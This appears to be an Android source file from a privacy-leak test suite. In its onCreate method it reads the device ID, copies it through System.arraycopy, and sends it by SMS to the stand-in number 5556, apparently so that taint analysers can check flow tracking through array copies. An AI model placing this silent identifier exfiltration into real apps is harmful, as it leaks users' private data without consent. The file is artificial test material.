package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** System.arraycopy from one array to another. */
public class Copied extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        String[] a = { "x", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId() };
        String[] b = new String[2];
        System.arraycopy(a, 0, b, 0, 2);
        SmsManager.getDefault().sendTextMessage("5556", null, b[1], null, null);
    }
}
